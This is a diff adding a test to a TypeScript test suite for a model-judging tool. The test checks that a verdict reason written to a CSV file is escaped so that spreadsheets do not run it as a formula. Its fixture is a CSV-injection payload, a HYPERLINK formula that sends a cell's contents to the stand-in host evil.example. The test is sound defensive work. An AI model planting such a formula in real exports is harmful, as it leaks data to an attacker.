@@ -249,6 +249,18 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
     expect(JSON.stringify(result)).not.toContain(KEY);
   });
 
+  it('writes a reason that a spreadsheet would run as a formula behind a single quote; turnkit reads it back', async () => {
+    const reason = '=HYPERLINK("http://evil.example/?"&A1,"deck 2")';
+    const dir = await newRun({ fixtures: [{ name: 'alpha', reps: ['[alpha-1] Take the lift to deck 2.'] }] });
+    server.respond(script({ '[alpha-1]': verdict('pass', reason) }));
+    const result = await judgeWithModel({ env: process.env, dir, settings: settingsOf({ provider }) });
+    const text = await readFile(result.file, 'utf8');
+    expect(text).toContain(`alpha,1,pass,"'=HYPERLINK(""http://evil.example/?""&A1,""deck 2"")",judge-${MODEL},`);
+    expect((await readMarksRows(result.file))[0]?.note).toBe(reason);
+    // The verdicts file is JSON, not a spreadsheet's: the reason as the judge gave it.
+    expect((await readVerdicts(result.verdictsFile))[0]?.reason).toBe(reason);
+  });
+
   it('a rate limit (429, retry-after 0) and a 500 are retried: each rep gets its verdict', async () => {
     const dir = await newRun({ fixtures: [{ name: 'alpha', reps: ['[alpha-1] deck 2', '[alpha-2] deck 3'] }] });
     server.respond(
